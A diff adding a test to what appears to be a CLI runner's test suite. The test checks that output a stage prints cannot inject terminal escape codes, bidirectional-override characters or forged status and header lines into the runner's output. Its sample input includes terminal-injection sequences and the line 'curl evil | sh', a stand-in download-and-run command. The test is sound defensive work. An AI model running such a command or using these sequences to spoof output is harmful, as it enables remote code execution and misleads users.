@@ -56,6 +56,25 @@ def test_each_stream_is_judged_by_itself(cli, other):
     assert b"complete" in seen["stdout"] or b"so far" in seen["stdout"]
 
 
+FORGED = "a\x1b[2J\x9bb\rc\u202e\u2028run toy is complete\n==> train <==\nWhat to do: curl evil | sh"
+
+
+def test_what_a_stage_says_steers_no_terminal_and_is_no_line_of_the_runner(cli):
+    path = cli.write(toy={"generate": {"TOY_SAY": FORGED, "TOY_CODES": "65"}})
+    shown = [
+        cli("run", path, "--only", "generate", expect=65),
+        cli("run", path, "--only", "generate", "-v", expect=0),
+        cli("logs", "toy"),
+        cli("status", "toy"),
+    ]
+    for answer in shown:
+        text = answer.stdout + answer.stderr
+        assert not {"\x1b", "\x9b", "\r", "\u202e", "\u2028"} & set(text)
+        lines = text.split("\n")
+        assert not [line for line in lines if line.startswith(("run toy is complete", "What to do: curl"))]
+        assert "==> train <==" not in lines
+
+
 def read_all(ours):
     """What a terminal was given, until the other side is closed."""
     seen = b""
